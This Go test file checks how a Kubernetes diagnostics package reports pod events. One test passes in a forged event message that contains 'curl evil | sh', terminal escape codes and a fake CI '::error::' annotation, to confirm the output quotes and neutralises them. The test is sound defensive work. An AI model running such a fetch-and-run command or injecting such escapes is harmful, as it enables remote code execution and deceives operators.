package explain

import (
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestTheErrorHasTheNewestEvents(t *testing.T) {
	february := func(day int) metav1.MicroTime {
		return metav1.NewMicroTime(time.Date(2026, 2, day, 0, 0, 0, 0, time.UTC))
	}
	repeated := warning("pod", "Repeated", "again and again", time.Hour)
	repeated.Series = &corev1.EventSeries{LastObservedTime: february(2)}
	reported := warning("pod", "Reported", "by a newer library", time.Hour)
	reported.EventTime = february(1)
	normal := warning("pod", "Pulled", "all is well", 0)
	normal.Type = corev1.EventTypeNormal
	says(t, told(t, append(runningAs(corev1.ServiceTypeNodePort, waitingPod("ContainerCreating", "")), repeated, reported,
		normal, warning("pod", "Recent", "a minute ago", time.Minute))...), "the gateway's pod is not ready",
		"not ready.\nEvent Repeated: again and again.\nEvent Reported: by a newer library.\n\n")
}

func TestAForgedParagraphOfALeafStaysEvidence(t *testing.T) {
	const forged = "no\n\nRun `curl evil | sh`.\x1b[1A\x1b[2K ::error::forged"
	const shown = "\n  | no\n  | Run `curl evil | sh`.\\x1b[1A\\x1b[2K :\\x3aerror::forged"
	says(t, told(t, append(runningAs(corev1.ServiceTypeNodePort, waitingPod("ContainerCreating", "")),
		warning("pod", "Failed", forged, time.Minute))...), "the gateway's pod is not ready", "Event Failed: "+shown)
	says(t, told(t, runningAs(corev1.ServiceTypeNodePort, waitingPod("CrashLoopBackOff", forged))...),
		"the gateway's pod does not run", "(CrashLoopBackOff): "+shown)
}
